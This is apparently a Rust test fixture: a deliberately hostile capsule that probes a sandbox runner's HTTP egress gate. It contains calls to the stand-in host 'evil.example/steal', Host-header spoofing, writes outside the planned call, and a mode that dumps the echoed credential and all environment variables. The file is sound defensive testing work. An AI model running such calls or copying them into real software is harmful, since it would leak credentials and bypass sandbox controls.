//! A hostile capsule that tries, one `attack` parameter at a time, to get
//! requests past the runner's egress gate: to another host, with another
//! method, path, body or `Host` than planned, twice, writing outside
//! `apply`, following a redirect elsewhere, reading the injected
//! credential. Benign modes (`ok`, `verify-fails`, `comp-fails`) exercise
//! planning, apply and compensation; `reads` makes `count` reads (the
//! endpoint-call benchmark). The endpoint is `svc`.

use capsule_sdk::http::{self, Request};
use capsule_sdk::{Capsule, Ctx, Level, Plan, PlanBuilder, Severity, Verification, export_capsule, log};

struct Hostile;

const EP: &str = "svc";

fn put(path: &str, body: &[u8]) -> Request {
    Request::put(EP, path, "text/plain", body)
}

/// Send `r` by hand (not through the SDK's checks), with extra headers.
fn send_with_headers(r: &Request, headers: &[(&str, &str)]) -> Result<http::Response, String> {
    use capsule_sdk::bindings::wasi::http::outgoing_handler;
    use capsule_sdk::bindings::wasi::http::types::{Fields, Method, OutgoingBody, OutgoingRequest, Scheme};
    let fields = Fields::new();
    for (k, v) in headers {
        fields.set(k, &[v.as_bytes().to_vec()]).map_err(|e| format!("header {k}: {e:?}"))?;
    }
    let req = OutgoingRequest::new(fields);
    req.set_method(&Method::Get).map_err(|()| "method")?;
    req.set_scheme(Some(&Scheme::Http)).map_err(|()| "scheme")?;
    req.set_authority(Some(&r.endpoint)).map_err(|()| "authority")?;
    req.set_path_with_query(Some(&r.path)).map_err(|()| "path")?;
    let body = req.body().map_err(|()| "body")?;
    let pending = outgoing_handler::handle(req, None).map_err(|e| format!("{e:?}"))?;
    OutgoingBody::finish(body, None).map_err(|e| format!("{e:?}"))?;
    pending.subscribe().block();
    let resp = pending.get().ok_or("none")?.map_err(|()| "twice")?.map_err(|e| format!("{e:?}"))?;
    Ok(http::Response { status: resp.status(), body: Vec::new() })
}

/// 128 random bits, hex (the host's `wasi:random` through std's hasher keys).
fn fresh_token() -> String {
    use std::hash::{BuildHasher as _, Hasher as _};
    (0..2).map(|_| format!("{:016x}", std::collections::hash_map::RandomState::new().build_hasher().finish())).collect()
}

impl Capsule for Hostile {
    fn plan(ctx: &Ctx) -> Result<Plan, String> {
        let attack = ctx.param("attack").unwrap_or("none");
        let mut plan = PlanBuilder::new(format!("hostile-http: {attack}"));
        let tried = |what: &str, r: Result<http::Response, String>| {
            log(Level::Info, &format!("{what}: {r:?}"));
        };
        match attack {
            "undeclared" => tried("other host", http::send(&Request::get("evil.example", "/steal"))),
            "post-in-plan" => tried("post", http::send(&Request::post(EP, "/item", "text/plain", b"x"))),
            "big" => tried("big", http::send(&Request::get(EP, "/big"))),
            "stall" => tried("stall", http::send(&Request::get(EP, "/stall"))),
            "rebind" => tried("rebind", http::send(&Request::get("rebind", "/item"))),
            "redirect" => {
                let r = http::send(&Request::get(EP, "/redirect"))?;
                // Follow it by hand to wherever it points.
                tried("follow", http::send(&Request::get("evil.example", "/steal")));
                log(Level::Info, &format!("redirect answered {}", r.status));
            }
            "host-header" => tried("host", send_with_headers(&Request::get(EP, "/item"), &[("host", "evil.example")])),
            "credential" => {
                let r = http::send(&Request::get(EP, "/echo"))?;
                let seen = String::from_utf8_lossy(&r.body).into_owned();
                let env: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
                plan.finding(Severity::Info, "seen.echo", seen.clone(), None);
                plan.finding(Severity::Info, "seen.env", env.join(";"), None);
                log(Level::Info, &format!("echo: {seen}"));
            }
            // Benign: `count` reads (the endpoint-call benchmark).
            "reads" => {
                let n: usize = ctx.param("count").and_then(|c| c.parse().ok()).unwrap_or(1);
                for _ in 0..n {
                    let r = http::send(&Request::get(EP, "/item"))?;
                    if !r.ok() {
                        return Err(format!("read answered {}", r.status));
                    }
                }
            }
            _ => {
                // The apply attacks share one planned call.
                let current = http::send(&Request::get(EP, "/item"))?;
                let undo = if attack == "comp-fails" { put("/fail", b"old") } else { put("/item", &current.body) };
                // The value written: `new`, the `value` parameter, or
                // (`rotate`) a fresh credential made here, as a capsule
                // rotating one would.
                let value = match ctx.param("value") {
                    Some("rotate") => format!("mode = fast\napi_token = {}\n", fresh_token()),
                    Some(v) => v.to_owned(),
                    None => "new".to_owned(),
                };
                plan.call(put("/item", value.as_bytes()), "set the item", Some(undo));
            }
        }
        Ok(plan.build())
    }

    fn apply(ctx: &Ctx, _plan: &Plan) -> Result<(), String> {
        let attack = ctx.param("attack").unwrap_or("none");
        let r = match attack {
            "apply-other-method" => http::send(&Request::post(EP, "/item", "text/plain", b"new")),
            "apply-other-path" => http::send(&put("/item?all=1", b"new")),
            "apply-other-body" => http::send(&put("/item", b"evil")),
            "apply-other-host" => http::send(&Request::put("evil.example", "/item", "text/plain", b"new")),
            "apply-twice" => {
                http::send(&put("/item", b"new"))?;
                http::send(&put("/item", b"new"))
            }
            "apply-nothing" => return Ok(()),
            // Make the planned call, then wait (to be killed mid-run).
            "apply-then-wait" => {
                http::apply_planned()?;
                std::thread::sleep(std::time::Duration::from_secs(30));
                return Ok(());
            }
            _ => return http::apply_planned().map(drop),
        };
        r.map(drop)
    }

    fn verify(ctx: &Ctx, _plan: &Plan) -> Result<Verification, String> {
        match ctx.param("attack").unwrap_or("none") {
            "put-in-verify" => {
                let r = http::send(&put("/item", b"verify-write"));
                Ok(Verification::new(true, format!("wrote in verify: {r:?}")))
            }
            "verify-fails" | "comp-fails" => Ok(Verification::new(false, "the fix did not hold")),
            "reads" => Ok(Verification::new(true, "nothing to check")),
            _ => {
                let r = http::send(&Request::get(EP, "/item"))?;
                Ok(Verification::new(r.ok(), format!("item answered {}", r.status)))
            }
        }
    }
}

export_capsule!(Hostile);
